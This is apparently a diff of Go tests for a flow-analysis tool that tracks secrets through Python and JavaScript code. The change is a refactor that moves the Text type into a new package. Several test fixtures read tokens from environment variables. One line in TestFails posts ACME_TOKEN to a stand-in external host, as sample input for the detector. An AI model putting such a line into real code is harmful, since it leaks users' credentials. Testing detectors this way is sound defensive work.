@@ -7,6 +7,7 @@ import (
 	"testing"
 
 	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/engine/flow/way"
 	"github.com/skillctl/skillctl/internal/document"
 )
 
@@ -27,7 +28,7 @@ func TestBounds(t *testing.T) {
 	} {
 		t.Run(name, func(t *testing.T) {
 			said := false
-			chain.Follow([]chain.Text{{File: "a.py", Source: []byte(head + body + tail), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(string, string) { said = true }})
+			chain.Follow([]way.Text{{File: "a.py", Source: []byte(head + body + tail), Language: way.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(string, string) { said = true }})
 			if !said {
 				t.Error("nothing says that it was not followed to the end")
 			}
@@ -52,7 +53,7 @@ func TestToldUpTo(t *testing.T) {
 	} {
 		said := ""
 		text := "import os, logging, logging.handlers, requests\nk = os.environ['ACME_TOKEN']\n" + many(2100, func(i int) string { return fmt.Sprintf(c.line, i) })
-		chain.Follow([]chain.Text{{File: "a.py", Source: []byte(text), Language: chain.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(_, why string) { said = why }})
+		chain.Follow([]way.Text{{File: "a.py", Source: []byte(text), Language: way.Python, Start: document.Position{Line: 1, Column: 1}}}, nil, chain.Options{Cut: func(_, why string) { said = why }})
 		if (said != "") != c.want {
 			t.Errorf("%s: said %q", name, said)
 		}
@@ -90,14 +91,14 @@ func FuzzFollow(f *testing.F) {
 	f.Add([]byte("import os\n# far behind the end of the other text\ndef f(x=os.environ['A_KEY'], *a):\n  a += [1]\n  return f(*a, *a)\x00from a import f\nf()"), true)
 	f.Add([]byte("// far behind the end of the other text\nexport function f({token: other}) { return other }\x00import {f} from './a.js'\nf({token: process.env.A_KEY})"), false)
 	f.Fuzz(func(t *testing.T, text []byte, python bool) {
-		language, end := chain.JavaScript, ".js"
+		language, end := way.JavaScript, ".js"
 		if python {
-			language, end = chain.Python, ".py"
+			language, end = way.Python, ".py"
 		}
-		var texts []chain.Text
+		var texts []way.Text
 		for i, source := range bytes.SplitN(text, []byte{0}, 3) {
 			file := string(rune('a'+i)) + end
-			texts = append(texts, chain.Text{File: file, Source: source, Language: language, Start: document.Position{Line: 1, Column: 1}})
+			texts = append(texts, way.Text{File: file, Source: source, Language: language, Start: document.Position{Line: 1, Column: 1}})
 		}
 		chain.Follow(texts, nil, chain.Options{
 			Lasting: func(string) bool { return true }, Touches: true, Told: func(string, document.Span, string) {},
@@ -132,8 +133,8 @@ func TestOddCalls(t *testing.T) {
 func TestFails(t *testing.T) {
 	first := "import os, requests\nrequests.post('https://a.example.com', data=os.environ['ACME_TOKEN'])\n"
 	var said []string
-	got := chain.Follow([]chain.Text{
-		{File: "a.py", Source: []byte(first), Language: chain.Python}, {File: "b.py", Source: []byte("x = 'a' + 'b'\n"), Language: chain.Python},
+	got := chain.Follow([]way.Text{
+		{File: "a.py", Source: []byte(first), Language: way.Python}, {File: "b.py", Source: []byte("x = 'a' + 'b'\n"), Language: way.Python},
 	}, nil, chain.Options{
 		Told: func(file string, _ document.Span, _ string) {
 			if file == "b.py" {
